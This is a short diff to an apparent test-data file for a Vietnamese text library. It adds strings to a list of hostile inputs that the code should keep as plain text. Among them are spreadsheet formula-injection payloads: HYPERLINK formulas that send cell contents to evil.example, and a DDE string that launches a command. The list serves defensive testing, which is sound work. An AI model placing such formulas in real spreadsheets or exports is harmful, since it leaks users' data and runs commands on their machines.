@@ -18,6 +18,8 @@ VIETNAMESE = load_language("vi")
 
 #: Texts that are no more than text, whatever a spreadsheet, a calendar or a terminal would like to make of them.
 HOSTILE = [
+    "<r><t>chen</t></r>",
+    'Kế hoạch;=HYPERLINK("http://evil.example/?"&A1)',
     '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
     "+cmd|' /C calc'!A0",
     "-2+3",
